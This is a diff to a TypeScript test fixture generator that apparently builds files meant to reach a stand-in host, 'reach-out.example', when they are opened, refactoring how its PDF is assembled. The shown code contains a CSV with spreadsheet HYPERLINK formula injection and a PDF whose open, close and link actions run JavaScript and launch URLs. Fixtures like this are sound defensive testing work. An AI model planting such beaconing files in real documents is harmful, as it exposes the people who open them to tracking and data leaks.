@@ -4,6 +4,7 @@
  */
 import { mkdir, writeFile } from 'node:fs/promises';
 import { dirname, join } from 'node:path';
+import { makePdf } from '../support/make-pdf.ts';
 
 export const LEAK_HOST = 'reach-out.example';
 
@@ -79,7 +80,7 @@ const MAIL = [
 const CSV = `name,formula\n"=HYPERLINK(""${at('csv')}/"",""mailbox"")","@SUM(1)"\n"<img src=${at('csvimg')}/x.png>",198.51.100.23\n`;
 
 /** A one-page PDF that runs a script, opens an address and sends a form when it is opened. */
-function pdf(): string {
+function pdf(): Buffer {
   const text = 'BT /F1 12 Tf 20 100 Td (mailbox 198.51.100.23) Tj ET';
   const objects = [
     `<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (app.alert\\('pdf'\\); app.launchURL\\('${at('pdfjs')}/'\\)) >> /AA << /WC << /S /URI /URI (${at('pdfclose')}/) >> >> >>`,
@@ -89,18 +90,10 @@ function pdf(): string {
     '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
     `<< /Type /Annot /Subtype /Link /Rect [0 0 300 200] /A << /S /URI /URI (javascript:${script('pdfuri').replaceAll(/[()]/g, '\\$&')}) >> >>`,
   ];
-  let body = '%PDF-1.7\n';
-  const offsets = objects.map((object, index) => {
-    const offset = body.length;
-    body += `${index + 1} 0 obj\n${object}\nendobj\n`;
-    return offset;
-  });
-  const xref = body.length;
-  const lines = offsets.map((offset) => `${String(offset).padStart(10, '0')} 00000 n \n`).join('');
-  return `${body}xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${lines}trailer << /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${xref}\n%%EOF\n`;
+  return makePdf(objects);
 }
 
-const FILES: Readonly<Record<string, string>> = {
+const FILES: Readonly<Record<string, string | Buffer>> = {
   'page.html': HTML,
   'page.xhtml': `<?xml version="1.0"?>${HTML.replace('<!doctype html>', '')}`,
   'saved.mhtml': `MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=m\r\n\r\n--m\r\nContent-Type: text/html\r\nContent-Location: ${at('mhtml')}/\r\n\r\n${HTML}\r\n--m--\r\n`,
